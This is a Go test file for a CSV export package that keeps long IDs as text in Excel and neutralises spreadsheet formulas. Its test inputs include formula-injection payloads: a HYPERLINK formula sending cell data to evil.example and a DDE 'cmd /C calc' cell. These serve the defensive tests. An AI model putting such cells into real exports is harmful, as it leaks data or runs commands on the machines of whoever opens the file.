package excelcsv_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/issuer-dev/issuer/internal/excelcsv"
)

func TestText(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in, want string
	}{
		{"4200000523202003118425213470", "\t4200000523202003118425213470"}, // transaction_id
		{"190000010920200310000001", "\t190000010920200310000001"},         // generated out_request_no
		{"98674556", "98674556"},       // a coupon id Excel shows whole
		{"12345678901", "12345678901"}, // 11 digits: General shows them
		{"123456789012", "\t123456789012"},
		{"0012", "\t0012"}, // a leading zero Excel would drop
		{"0", "0"},
		{"", ""},
		{"1900000109202003100000oA", "1900000109202003100000oA"}, // letters: already text
		{"10.00", "10.00"},
		{"-123456789012", "-123456789012"},
	} {
		require.Equal(t, tc.want, excelcsv.Text(tc.in, false), tc.in)
		require.Equal(t, tc.in, excelcsv.Text(tc.in, true), tc.in)
	}
}

// A program reading the file gets every value back bare.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, excelcsv.WriteBOM(&buf, false))
	w := csv.NewWriter(&buf)
	want := [][]string{{"out_request_no", "说明"}, {"4200000523202003118425213470", "批次预算不足"}}
	for _, rec := range want {
		require.NoError(t, w.Write([]string{excelcsv.Text(rec[0], false), rec[1]}))
	}
	w.Flush()
	require.True(t, strings.HasPrefix(buf.String(), excelcsv.BOM))
	require.Contains(t, buf.String(), "\"\t4200000523202003118425213470\"")

	got, err := excelcsv.ReadAll(&buf)
	require.NoError(t, err)
	require.Equal(t, want, got)
}

func TestReadAllBOM(t *testing.T) {
	t.Parallel()
	for _, in := range []string{"a,b\n", excelcsv.BOM + "a,b\n", ""} {
		got, err := excelcsv.ReadAll(strings.NewReader(in))
		require.NoError(t, err)
		want, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(in, excelcsv.BOM))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, want, got, in)
	}
	var buf bytes.Buffer
	require.NoError(t, excelcsv.WriteBOM(&buf, true))
	require.Empty(t, buf.String())
}

func TestBOMFirst(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		plain  bool
		writes []string
		want   string
	}{
		{"nothing written, no mark", false, nil, ""},
		{"empty writes, no mark", false, []string{"", ""}, ""},
		{"mark once, before the first bytes", false, []string{"", "a,b\n", "c,d\n"}, excelcsv.BOM + "a,b\nc,d\n"},
		{"plain", true, []string{"a,b\n"}, "a,b\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var sb strings.Builder
			w := excelcsv.BOMFirst(&sb, tc.plain)
			for _, s := range tc.writes {
				n, err := io.WriteString(w, s)
				require.NoError(t, err)
				require.Equal(t, len(s), n)
			}
			require.Equal(t, tc.want, sb.String())
		})
	}
}

// Cells a spreadsheet would run as formulas get a quote in front; numbers
// issuer formatted and Text's marked digit strings do not.
func TestSafe(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in, want string
	}{
		{`=HYPERLINK("http://evil.example/?x="&A2,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A2,"Click")`},
		{"-A1*1000", "'-A1*1000"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"'quoted", "''quoted"},
		{"-", "'-"},
		{"-12.50", "-12.50"}, // a negative amount issuer formatted: a number, not a formula
		{"-3", "-3"},
		{"-1e5", "'-1e5"},
		{"-12.", "'-12."},
		{"\t4200000523202003118425213470", "\t4200000523202003118425213470"}, // Text's mark
		{"\t42x", "'\t42x"},
		{"春节=活动", "春节=活动"},
		{"a-b", "a-b"},
		{"12.50", "12.50"},
		{"", ""},
	} {
		require.Equal(t, tc.want, excelcsv.Safe(tc.in), "%q", tc.in)
	}
}

// Writer makes every cell safe, and ReadAll gives a program the values
// back exactly.
func TestWriterRoundTrip(t *testing.T) {
	t.Parallel()
	want := [][]string{
		{"batch_id", "name", "out_request_no", "amount"},
		{"1", `=HYPERLINK("http://evil.example/?x="&A2,"Click")`, "-A1*1000", "-12.50"},
		{"2", "'apostrophe", "+SUM(1)", "0.00"},
		{"3", "\tleading tab", "@x", "3.00"},
		{"4", "''", "4200000523202003118425213470", ""},
	}
	var buf bytes.Buffer
	require.NoError(t, excelcsv.WriteBOM(&buf, false))
	w := excelcsv.NewWriter(&buf)
	for _, rec := range want {
		in := append([]string(nil), rec...)
		in[2] = excelcsv.Text(in[2], false)
		require.NoError(t, w.Write(in))
		require.Equal(t, rec[1], in[1], "Write leaves the record as it was")
	}
	w.Flush()
	require.NoError(t, w.Error())

	raw, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), excelcsv.BOM))).ReadAll()
	require.NoError(t, err)
	for _, rec := range raw[1:] {
		for _, cell := range rec {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\r\n", rune(cell[0])) && cell != "-12.50",
				"a cell a spreadsheet would run: %q", cell)
		}
	}
	require.Equal(t, "'-A1*1000", raw[1][2])
	require.Equal(t, "\t4200000523202003118425213470", raw[4][2])

	got, err := excelcsv.ReadAll(&buf)
	require.NoError(t, err)
	require.Equal(t, want, got)
}

var bareWriter = regexp.MustCompile(`(^|[^\w])csv\.NewWriter\(`)

// Every CSV issuer writes goes through Writer: nothing else in the module
// makes an encoding/csv writer.
func TestWriterIsTheOnlyWay(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..")
	var offenders []string
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == ".git" || d.Name() == "testdata" || d.Name() == "node_modules") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		if filepath.Base(filepath.Dir(path)) == "excelcsv" {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bareWriter.Match(b) {
			offenders = append(offenders, path)
		}
		return nil
	})
	require.NoError(t, err)
	require.Empty(t, offenders, "write CSV with excelcsv.NewWriter, which neutralises formulas")
}
